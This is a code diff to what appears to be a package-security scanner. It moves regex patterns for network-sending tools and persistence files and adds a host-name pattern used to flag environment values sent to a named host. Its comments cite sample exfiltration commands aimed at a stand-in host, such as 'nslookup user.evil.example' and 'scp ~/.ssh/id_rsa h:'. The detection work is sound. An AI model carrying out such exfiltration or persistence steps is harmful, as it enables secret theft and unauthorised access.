@@ -38,6 +38,8 @@ from airlock.imports.packages.sinks import (
     HIDDEN,
     HOSTINFO,
     HOSTLESS,
+    NETWORK_TOOL,
+    PERSISTENCE,
     REMOTE,
     SECRET,
     SILENT,
@@ -64,10 +66,9 @@ WIPER = LazyPattern(
     r"\bformat\s+[a-z]:|\bmkfs(?:\.\w+)?\s+/dev/|\bdd\s+if=/dev/(?:zero|urandom)\s+of=/dev/",
     re.IGNORECASE,
 )
-# Commands that send what they are given to another host.
-NETWORK_TOOL = LazyPattern(
-    r"(?:^|[\s;&|/])(?:curl|wget|nc|ncat|netcat|nslookup|dig|host|ping|scp|sftp|rsync|ftp|"
-    r"tftp|ssh|telnet|socat)(?:\.exe)?\s",
+# A host name or an IPv4 address written in a command.
+NAMED_HOST = LazyPattern(
+    r"(?:^|[\s@/:=])[a-z0-9-]+(?:\.[a-z0-9-]+)*\.[a-z]{2,}(?=[\s:/]|$)|\b\d{1,3}(?:\.\d{1,3}){3}\b",
     re.IGNORECASE,
 )
 DOMAIN = LazyPattern(r"\.[a-z][a-z0-9-]*\.[a-z]{2,}", re.IGNORECASE)
@@ -80,16 +81,6 @@ BUILD_TOOL = LazyPattern(
 HIDDEN_PAYLOAD = LazyPattern(
     r"https?://|\bimport\s+\w|exec\(|eval\(|__import__|subprocess|os\.system|powershell|"
     r"\bcurl\b|\bwget\b|/bin/(ba)?sh|socket\.",
-    re.IGNORECASE,
-)
-PERSISTENCE = LazyPattern(
-    r"startup|\\run\b|\.bashrc|\.zshrc|\.profile|crontab|launchagents|autostart|"
-    r"site-packages|\.pth$|(^|\s)/etc/|system32|appdata|"
-    # ADR 0063: files that let someone in or change what runs later: an SSH key or command,
-    # the index pip installs from, git's hooks, a user service, other login shells' files.
-    r"authorized_keys|\.ssh/(config|rc)\b|pip\.(conf|ini)\b|\.gitconfig|\.git/hooks|"
-    r"systemd/|launchdaemons|\.bash_(profile|login)|\.z(profile|shenv|login)|config\.fish|"
-    r"\.xprofile|\.xinitrc|\.condarc|\.npmrc|(site|user)customize\.py",
     re.IGNORECASE,
 )
 SECRET_FILE = LazyPattern(
@@ -161,7 +152,11 @@ def _process(event: Event, eager: bool) -> tuple[str, Severity]:  # noqa: PLR091
     shell = BARE_SHELL.fullmatch(event.text.removesuffix(" True").strip())
     if shell and (eager or event.callee == "pty.spawn"):
         return "shell-spawn", Severity.CRITICAL
-    sent = event.labels & {SECRET, HOSTINFO} or STOLEN_FILE.search(event.text)
+    sent = bool(event.labels & {SECRET, HOSTINFO} or STOLEN_FILE.search(event.text))
+    # An environment value on a sending command's line, or written to its stdin, naming a
+    # host to send to (``'ping -p ' + key + ' evil.example'``; ADR 0079): the child's own
+    # ``env=`` is not on its line (:meth:`flow.Interpreter.command_text`).
+    sent = sent or (ENV in event.labels and NAMED_HOST.search(event.text) is not None)
     if sent and eager and NETWORK_TOOL.search(event.text):
         # Host data, a secret or a key file handed to a command that sends it away
         # (``nslookup user.evil.example``, ``scp ~/.ssh/id_rsa h:``): exfiltration through a
